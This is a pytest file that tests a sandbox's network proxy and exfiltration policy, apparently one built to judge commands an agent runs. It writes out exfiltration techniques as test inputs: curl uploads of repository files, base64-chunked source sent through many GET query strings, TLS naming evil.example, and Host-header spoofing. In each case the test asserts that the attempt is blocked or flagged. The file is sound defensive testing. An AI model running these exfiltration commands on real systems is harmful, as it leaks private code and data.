        p = subprocess.run([sys.executable, "-m", "caper", "run", "--json", "--approver",
                            "policy", "--allow-net", registry.host, "--", "curl", "-sS",
                            "-o", "index.html", f"http://{registry.host}/simple/demo-pkg/"],
                           cwd=ws, env=env, capture_output=True, timeout=120)
        doc = json.loads(p.stdout)
        assert "gate" in doc, p.stderr[-2000:]
        assert doc["committed"] and b"demo_pkg" in (ws / "index.html").read_bytes()
        proxied = [n for n in doc["report"]["network"] if n["call"] == "proxy"]
        assert [(n["allowed"], n["method"], n["path"]) for n in proxied] == \
            [(True, "GET", "/simple/demo-pkg/")]
    finally:
        stop_gate(state)


def test_the_tls_server_name_is_read_from_a_real_client_hello():
    ctx = ssl.create_default_context()
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    tls = ctx.wrap_bio(incoming, outgoing, server_hostname="files.pythonhosted.org")
    with pytest.raises(ssl.SSLWantReadError):
        tls.do_handshake()
    hello = outgoing.read()
    assert _sni(hello) == "files.pythonhosted.org"
    assert _sni(hello[:40]) is None and _sni(b"GET / HTTP/1.1\r\n") is None


def test_a_tunnel_whose_tls_names_another_host_is_cut(registry, ws, home, tmp_path):
    tunnel = _through_tunnel(
        registry, ws, home, tmp_path,
        "i, o = ssl.MemoryBIO(), ssl.MemoryBIO()\n"
        "t = ssl.create_default_context().wrap_bio(i, o, server_hostname='evil.example')\n"
        "try:\n    t.do_handshake()\nexcept ssl.SSLWantReadError:\n    pass\n"
        "s.sendall(o.read())\n"
        "print(s.recv(100))\n")
    assert tunnel.result == "cut" and tunnel.sni == "evil.example" and tunnel.sent == 0
    assert "evil.example" in tunnel.reason


def test_an_upload_to_an_allowed_host_after_reading_repository_files_is_unsure(registry, ws,
                                                                              home, tmp_path):
    """Pre-execution is real execution: the POST happens; the policy is unsure of it."""
    out = _run(f"curl -sS -m 10 --data-binary @README http://{registry.host}/upload", ws, home,
               tmp_path, allow=[registry.host])
    assert registry.uploads == [b"the project\n"]
    assert out.decision == "block" and out.reason.startswith("unsure")
    assert "README" in out.reason and "POST" in out.reason


@pytest.mark.parametrize("send", [
    "curl -sS -m 10 -X GET --data-binary @README http://{host}/simple/",       # a GET's body
    "cat README | curl -sS -m 10 --data-binary @- http://{host}/upload",         # a sibling read it
    "curl -sS -m 10 -p -X POST --data-binary @README http://{host}/upload",     # plain text in a tunnel
])
def test_an_upload_the_method_or_the_sender_hid_is_still_unsure(registry, ws, home, tmp_path,
                                                                 send):
    """Round 4: a GET carrying the file as its body, a POST whose data a
    sibling process read (the rule asked only the sender's own reads), and a
    plain-text request inside a CONNECT tunnel (no method caper can see)
    were committed as downloads."""
    out = _run(send.format(host=registry.host), ws, home, tmp_path, allow=[registry.host])
    assert out.decision == "block" and out.reason.startswith("unsure"), out.reason
    assert "README" in out.reason and not out.committed


def test_many_small_requests_that_add_up_to_an_upload_are_unsure(registry, ws, home, tmp_path):
    """Round 4: 30 KB of a tracked file as the query strings of many GETs,
    each too small to be an upload, was committed; the run's sum is judged
    (the report's entry for the requests past its list holds theirs), and
    the long URLs reach the host whole (the proxy used to cut them at 512)."""
    (ws / "src.py").write_text("".join(f"line_{i:05d} = {i * 7919}\n" for i in range(1500)))
    out = _run("base64 -w0 src.py | fold -w 2000 | while read c; do "
               f"curl -sS -m 10 -o /dev/null \"http://{registry.host}/q?d=$c\"; done",
               ws, home, tmp_path, allow=[registry.host])
    assert out.decision == "block" and out.reason.startswith("unsure"), out.reason
    assert "src.py" in out.reason and not out.committed
    sent = [p for m, p in registry.requests if p.startswith("/q?d=")]
    assert len(sent) > 10 and all(len(p) == len("/q?d=") + 2000 for p in sent[:-1])


def test_a_download_after_reading_repository_files_stays_a_download(registry, ws, home,
                                                                    tmp_path):
    out = _run(f"cat README >/dev/null; curl -sS -m 10 -o page http://{registry.host}/simple/",
               ws, home, tmp_path, allow=[registry.host])
    assert out.committed, out.reason


def test_a_connection_from_another_loopback_address_is_attributed_to_its_process(
        registry, ws, home, tmp_path):
    """The sandbox's socket is found by both its ends, so a client bound to
    127.0.0.2 is judged as the process it is (it was refused as unknown before)."""
    (ws / "other.py").write_text(
        "import socket\n"
        "s = socket.socket()\n"
        "s.bind(('127.0.0.2', 0))\n"
        "s.connect(('127.0.0.1', 3128))\n"
        f"s.sendall(b'GET http://{registry.host}/simple/demo-pkg/ HTTP/1.1\\r\\n\\r\\n')\n"
        "print(s.recv(100).split(b'\\r\\n')[0].decode())\n")
    out = _run(f"{sys.executable} other.py", ws, home, tmp_path, allow=[registry.host])
    assert out.stdout.text().startswith(b"HTTP/1.0 200")
    [n] = _proxied(out)
    assert n.allowed and "python" in n.by and "other.py" in n.argv


def test_this_machines_own_addresses_and_metadata_services_are_internal():
    """Round 5: an allowed name resolving to this machine's own (non-loopback)
    address reached host services listening on 0.0.0.0, and metadata
    services off the link-local range passed the internal check."""
    import fcntl
    import struct
    from caper.sandbox.netproxy import _internal
    assert _internal("168.63.129.16") and _internal("fd00:ec2::254") and not _internal("8.8.8.8")
    own = []
    for _, name in socket.if_nameindex():
        if name == "lo":
            continue
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            try:
                raw = fcntl.ioctl(s.fileno(), 0x8915, struct.pack("256s", name.encode()[:15]))
            except OSError:
                continue
        own.append(socket.inet_ntoa(raw[20:24]))
    if not own:
        pytest.skip("no interface with an IPv4 address besides lo")
    assert all(_internal(a) for a in own), own


def test_a_forwarded_request_whose_host_header_names_another_host_is_refused(registry, ws, home,
                                                                             tmp_path):
    """Round 5: the plain-HTTP proxy passed a foreign Host header on, so
    another virtual host of the allowed front end was reached while the
    report named the allowed one (the route already refused it)."""
    out = _run(f"curl -sS -m 10 -H 'Host: other.example' http://{registry.host}/simple/",
               ws, home, tmp_path, allow=[registry.host])
    assert registry.requests == []
    [req] = _proxied(out)
    assert not req.allowed and "other.example" in (req.reason or ""), req
